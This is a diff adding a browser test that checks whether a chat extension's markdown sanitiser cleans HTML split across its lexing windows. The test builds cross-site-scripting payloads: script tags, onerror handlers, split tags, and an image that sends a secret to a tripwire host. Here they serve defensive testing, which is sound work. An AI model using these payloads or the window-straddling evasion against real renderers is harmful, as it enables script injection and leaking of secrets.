@@ -362,3 +362,81 @@ def test_an_answer_cannot_cover_a_confirmation_with_its_own_text(browser):
              "Click “Subscribe” on example.com?</div>")
     result = browser.driver.execute_async_script(COVER_THE_CONFIRMATION, cover)
     assert result["covered"] is False, result
+
+
+# A long answer is lexed and cleaned a window at a time (lex-windows.js: the first window
+# ends at character WINDOW_SIZES.first of markdown.js, the others further on). The attacker, who can read
+# the source, puts HTML across where a window ends, hoping a half on each side gets past the
+# sanitiser and joins up on the page.
+def straddling(origin: str) -> str:
+    return (f'<script>window.pwned = "script"</script>\n\n'
+            f'<img src="{origin}/straddle?d={SECRET}" onerror="window.pwned = \'onerror\'">\n\n'
+            '<script>\n\nwindow.pwned = "script over blank lines"\n\n</script>\n\n'
+            '<div><img src="x" onerror="window.pwned = \'div\'"></div>\n\n'
+            '<img src="x"\n\nonerror="window.pwned = \'split tag\'">')
+
+
+def padding(length: int) -> str:
+    """Ordinary paragraphs, exactly `length` characters of them, ending in a blank line."""
+    text = "\n\n".join(f"Line {n} of the report, nothing to see." for n in range(length // 20 + 1))
+    return text[: length - 2].rstrip().ljust(length - 2, ".") + "\n\n"
+
+
+# What in the box could run: scripts and handlers.
+RUNNABLE = """
+return [...arguments[0].querySelectorAll("*")].flatMap((el) => [
+  ...(el.localName === "script" ? ["script"] : []),
+  ...[...el.attributes].filter((attr) => /^on/i.test(attr.name)).map((attr) => `${el.localName}[${attr.name}]`)]);
+"""
+
+FIRST_WINDOW = """
+const done = arguments[0];
+import(chrome.runtime.getURL("extension/sidepanel/markdown.js")).then(({ WINDOW_SIZES }) => done(WINDOW_SIZES.first));
+"""
+
+# Renders the payload with a window's end at each of its characters in turn.
+SWEEP = """
+const [padded, payloadLength, done] = arguments;
+import(chrome.runtime.getURL("extension/sidepanel/markdown.js")).then(async ({ renderMarkdown, WINDOW_SIZES }) => {
+  if (padded.indexOf("<script>") !== WINDOW_SIZES.first) return done(["the padding does not end where the first window does"]);
+  const found = [];
+  for (let cut = 1; cut < payloadLength; cut++) {
+    const box = document.querySelector("#conversation").appendChild(document.createElement("div"));
+    const rendering = renderMarkdown(box, padded.slice(cut)); // the payload starts `cut` before the end
+    if (!box.hasAttribute("aria-busy")) found.push(`${cut}: all in one window`);
+    await rendering;
+    for (const el of box.querySelectorAll("script, [onerror]")) found.push(`${cut}: ${el.outerHTML.slice(0, 80)}`);
+    if (!box.textContent.includes("After the payload.")) found.push(`${cut}: the rest is missing`);
+    box.remove();
+  }
+  done(found);
+});
+"""
+
+
+def test_html_across_the_end_of_a_window_is_cleaned_as_a_whole(browser, model, tripwire):
+    """A model's long answer with scripts and handlers cut at a window's end, at every place:
+    nothing runs or loads, and the text after them renders."""
+    origin = tripwire.origin
+    payload = straddling(origin)
+    browser.open_side_panel()
+    browser.driver.set_script_timeout(120)
+    first = browser.driver.execute_async_script(FIRST_WINDOW)
+    # The payload begins `cut` characters before the first window's end.
+    padded = padding(first) + payload + "\n\nAfter the payload."
+    assert browser.driver.execute_async_script(SWEEP, padded, len(payload)) == []
+    # The whole chain, with the payload over the first window's end and repeated over the
+    # next ones.
+    model.reset()
+    configure(browser, model.base_url)
+    answer = padding(first - len(payload) // 2) + "\n\n".join([payload] * 200) + "\n\nAfter the payload."
+    model.script(Reply(text=answer))
+    send(browser, "Write me the long report")
+    wait_for_status(browser, "ok")
+    shown = last_turn(browser.driver).find_element(By.CSS_SELECTOR, ".message.assistant")
+    wait(browser, lambda d: d.execute_script("return !arguments[0].hasAttribute('aria-busy')", shown), 60)
+    assert "After the payload." in shown.text
+    assert browser.driver.execute_script(RUNNABLE, shown) == []
+    assert_defused(browser.driver.execute_script(INSPECT_RENDERED, shown, origin), origin)
+    assert browser.driver.execute_script("return window.pwned === undefined")
+    assert settle(browser, tripwire) == []
